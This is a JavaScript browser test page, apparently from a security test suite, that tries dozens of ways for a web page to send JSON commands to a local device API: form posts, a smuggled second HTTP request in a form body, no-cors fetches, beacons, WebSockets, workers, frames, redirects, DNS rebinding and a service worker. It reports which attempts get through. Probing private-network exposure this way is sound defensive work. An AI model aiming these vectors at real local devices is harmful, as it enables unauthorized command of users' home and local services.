// Tries everything by which a page reaches another host. Each attempt has a name, which
// stands in the query of what it sends, and tells what the page got to see.

const settings = new URLSearchParams(location.search);
const port = settings.get('device');
const page = settings.get('page');
const seen = {};
const attempts = [];

const json = type => JSON.stringify({
  type, header: {sender_id: 'EV2LEV', sender_port: 5001}, data: 'from a page',
});

/// Runs an attempt; what it returns, or its error, is what was seen.
function attempt(name, run) {
  // One that the browser does not end may not hold up the report.
  const patience = new Promise(resolve => setTimeout(resolve, 10000, 'no end'));
  const done = (async () => run())().catch(error => `${error}`);
  attempts.push(Promise.race([done, patience]).then(what => { seen[name] = what ?? null; }));
}

function attack(host) {
  const url = (name, path = '/easyhttp/api') =>
    `http://${host}:${port}${path}?${page}-${host}-${name}`;
  const at = (name, path) => [`${host}-${name}`, url(name, path)];

  // ---- forms ----
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
    for (const type of [1, 2, 3, 4, 5]) {
      const [name, action] = at(`form-${enctype.split('/')[1]}-${type}`);
      attempt(name, () => post(action, enctype, json(type)));
    }
  for (const [how, body] of [
    ['form-cut', '{"type":5,"data":{"x":"'],
    ['form-smuggled', `\r\n\r\nPOST /easyhttp/api HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ` +
      `application/json\r\nContent-Length: ${json(5).length}\r\n\r\n${json(5)}`],
  ]) {
    const [name, action] = at(how);
    attempt(name, () => post(action, 'text/plain', body, how === 'form-cut' ? '"}}' : ''));
  }
  {
    const [name, target] = at('form-redirected');
    attempt(name, () => post(`redirect?${encodeURIComponent(target)}`, 'text/plain', json(5)));
  }

  // ---- scripts ----
  const fetches = {
    'no-cors-ping': {mode: 'no-cors', method: 'POST', body: json(1)},
    'no-cors-pong': {mode: 'no-cors', method: 'POST', body: json(2)},
    'no-cors-fetch': {mode: 'no-cors', method: 'POST', body: json(3)},
    'no-cors-data': {mode: 'no-cors', method: 'POST', body: json(4)},
    'no-cors-push': {mode: 'no-cors', method: 'POST', body: json(5)},
    'no-cors-json': {
      mode: 'no-cors', method: 'POST', body: json(5), headers: {'Content-Type': 'application/json'},
    },
    'no-cors-typed': {
      mode: 'no-cors', method: 'POST', body: new Blob([json(5)], {type: 'application/json'}),
    },
    'no-cors-hidden': {
      mode: 'no-cors', method: 'POST', body: json(5),
      headers: {'Content-Type': 'text/plain; application/json'},
    },
    'no-cors-head': {mode: 'no-cors', method: 'HEAD'},
    'no-referrer': {mode: 'no-cors', method: 'POST', body: json(5), referrerPolicy: 'no-referrer'},
    'keepalive': {mode: 'no-cors', method: 'POST', body: json(5), keepalive: true},
    'cors-text': {method: 'POST', body: json(5), credentials: 'include'},
    'cors-json': {
      method: 'POST', body: json(5), headers: {'Content-Type': 'application/json'},
    },
    'cors-put': {method: 'PUT', body: json(5)},
    'targeted': {method: 'POST', body: json(5), targetAddressSpace: 'local'},
  };
  for (const how in fetches) {
    const [name, target] = at(how);
    attempt(name, () => read(fetch(target, fetches[how])));
  }
  for (const [how, mode, type] of [
    ['redirected-no-cors', 'no-cors', 'text/plain'],
    ['redirected-cors', 'cors', 'text/plain'],
    ['redirected-json', 'cors', 'application/json'],
  ]) {
    const [name, target] = at(how);
    attempt(name, () => read(fetch(`redirect?${encodeURIComponent(target)}`, {
      mode, method: 'POST', body: json(5), headers: {'Content-Type': type},
    })));
  }
  for (const [how, path] of [['about', '/'], ['peers', '/easyhttp/peers'], ['api', undefined]])
    for (const mode of ['cors', 'no-cors']) {
      const [name, target] = at(`get-${how}-${mode}`, path);
      attempt(name, () => read(fetch(target, {mode})));
    }
  for (const type of ['text/plain', 'application/json']) {
    const [name, target] = at(`xhr-${type.split('/')[1]}`);
    attempt(name, () => new Promise(resolve => {
      const request = new XMLHttpRequest();
      request.onloadend = () => resolve(`${request.status} ${request.responseText}`);
      request.open('POST', target);
      request.setRequestHeader('Content-Type', type);
      request.send(json(5));
    }));
  }
  const beacons = {
    'beacon-text': json(5),
    'beacon-json': new Blob([json(5)], {type: 'application/json'}),
    'beacon-form': new URLSearchParams({[json(5)]: ''}),
  };
  for (const how in beacons) {
    const [name, target] = at(how);
    attempt(name, () => `${navigator.sendBeacon(target, beacons[how])}`);
  }
  {
    const [name, target] = at('websocket');
    attempt(name, () => new Promise(resolve => {
      const socket = new WebSocket(target.replace('http:', 'ws:'));
      socket.onopen = () => { socket.send(json(5)); };
      socket.onmessage = event => resolve(event.data);
      socket.onclose = event => resolve(`closed ${event.code} ${event.reason}`);
    }));
  }
  {
    const [name, target] = at('eventsource', '/');
    attempt(name, () => new Promise(resolve => {
      const source = new EventSource(target, {withCredentials: true});
      source.onmessage = event => resolve(event.data);
      source.onerror = () => { source.close(); resolve('error'); };
    }));
  }
  {
    const [name, target] = at('worker');
    attempt(name, () => new Promise((resolve, reject) => {
      const send = `{mode: 'no-cors', method: 'POST', body: ${JSON.stringify(json(5))}}`;
      const code = `fetch(${JSON.stringify(target)}, ${send})
        .then(answer => answer.text()).then(postMessage, error => postMessage('' + error));
        try { importScripts(${JSON.stringify(url('import'))}); } catch {}`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = event => resolve(event.data);
      worker.onerror = reject;
    }));
  }

  // ---- elements ----
  const elements = {
    'img': (e, target) => { e.src = target; },
    'script': (e, target) => { e.src = target; },
    'iframe': (e, target) => { e.src = target; },
    'embed': (e, target) => { e.src = target; },
    'object': (e, target) => { e.data = target; },
    'video': (e, target) => { e.src = target; },
    'input': (e, target) => { e.type = 'image'; e.src = target; },
    'link-stylesheet': (e, target) => { e.rel = 'stylesheet'; e.href = target; },
    'link-prefetch': (e, target) => { e.rel = 'prefetch'; e.href = target; },
    'link-preload': (e, target) => { e.rel = 'preload'; e.as = 'script'; e.href = target; },
    'link-modulepreload': (e, target) => { e.rel = 'modulepreload'; e.href = target; },
    'div-background': (e, target) => { e.style.background = `url("${target}")`; },
  };
  for (const how in elements)
    for (const [where, path] of [['api', undefined], ['about', '/']]) {
      const [name, target] = at(`${how}-${where}`, path);
      attempt(name, () => new Promise(resolve => {
        const element = document.createElement(how.split('-')[0]);
        element.onload = () => resolve(`loaded ${element.contentDocument?.body?.innerText ?? ''}`);
        element.onerror = () => resolve('error');
        elements[how](element, target);
        document.body.append(element);
        // These need not load, or tell it.
        if (['div-background', 'video'].includes(how)) resolve('placed');
        element.innerText = ' ';
      }));
    }
  {
    const [name, target] = at('script-global', '/');
    attempt(name, () => new Promise(resolve => {
      addEventListener('error', event => event.message && resolve(event.message), {once: true});
      const script = document.createElement('script');
      script.onload = script.onerror = () => resolve('no message');
      script.src = target;
      document.body.append(script);
    }));
  }

  // ---- pages without an origin ----
  const inner = name => `<!DOCTYPE html><form method=post enctype=text/plain ` +
    `action='${url(`${name}-form`)}'><textarea name='${json(5)}'></textarea></form><script>
    const send = (name, options) => fetch(name, {method: 'POST', ...options})
      .then(answer => answer.text()).catch(error => '' + error);
    const body = ${JSON.stringify(json(5))};
    Promise.all([
      send('${url(`${name}-no-cors`)}', {mode: 'no-cors', body}),
      send('${url(`${name}-json`)}', {headers: {'Content-Type': 'application/json'}, body}),
    ]).then(texts => {
      parent.postMessage(['${name}', texts], '*');
      document.forms[0].submit();
    });</scr` + `ipt>`;
  const frames = {
    'sandbox': (e, html) => { e.sandbox = 'allow-scripts allow-forms'; e.srcdoc = html; },
    'data': (e, html) => { e.src = `data:text/html,${encodeURIComponent(html)}`; },
    'blob': (e, html) => { e.src = URL.createObjectURL(new Blob([html], {type: 'text/html'})); },
  };
  for (const how in frames)
    attempt(`${host}-${how}`, () => new Promise(resolve => {
      addEventListener('message', event => event.data[0] === how && resolve(event.data[1]));
      const frame = document.createElement('iframe');
      frames[how](frame, inner(how));
      document.body.append(frame);
    }));

  // ---- navigation ----
  attempt(`${host}-open`, () => { open(url('open')); });
  attempt(`${host}-open-about`, () => { open(url('open-about', '/')); });
  attempt(`${host}-refresh`, () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<meta http-equiv=refresh content="0;url=${url('refresh')}">`;
    document.body.append(frame);
  });
  attempt(`${host}-blank`, () => post(url('blank'), 'text/plain', json(5), '', '_blank'));
  attempt(`${host}-ping`, () => {
    const link = document.createElement('a');
    Object.assign(link, {href: 'empty', target: '_blank', ping: url('ping')});
    document.body.append(link);
    link.click();
  });
}

/// Posts a form whose body, as text/plain, is what is given. Tells what its target shows.
function post(action, enctype, text, rest = '', target) {
  const form = document.createElement('form');
  const field = document.createElement('textarea');
  const frame = document.createElement('iframe');
  Object.assign(form, {method: 'POST', action, enctype});
  // Between name and value comes a `=`.
  Object.assign(field, {name: text, value: rest});
  frame.name = form.target = target ?? `frame-${document.forms.length}`;
  form.append(field);
  document.body.append(form);
  if (target) return form.submit();
  document.body.append(frame);
  return new Promise(resolve => {
    frame.onload = () => {
      let text = null;
      try { text = frame.contentDocument?.body?.innerText; } catch {}
      if (text !== '') resolve(`loaded ${text}`);
    };
    form.submit();
  });
}

async function read(answering) {
  const answer = await answering;
  const headers = [...answer.headers].map(([name, value]) => `${name}: ${value}`).join();
  return `${answer.type} ${answer.status} ${headers} ${await answer.text()}`;
}

/// What a page sees of a device that its own name has come to point to.
function rebind() {
  attempt('rebound', () => new Promise(resolve => {
    addEventListener('message', event => event.data[0] === 'rebound' && resolve(event.data[1]));
    const frame = document.createElement('iframe');
    frame.src = `http://rebound.example:${port}/rebound.html?${page}-`;
    document.body.append(frame);
  }));
}

/// Only pages of this machine, and those with TLS, may have one.
function work() {
  attempt('service-worker', async () => {
    const worker = `worker.js?device=${port}&page=${page}`;
    await navigator.serviceWorker.register(worker);
    const {active} = await navigator.serviceWorker.ready;
    return `${active.scriptURL}`;
  });
}

(async () => {
  attack('127.0.0.1');
  attack('localhost');
  attack('kitchen.example');
  rebind();
  if (isSecureContext) work();
  await Promise.all(attempts);
  await fetch('report', {method: 'POST', body: JSON.stringify(seen)});
  location = await (await fetch('next')).text();
})();
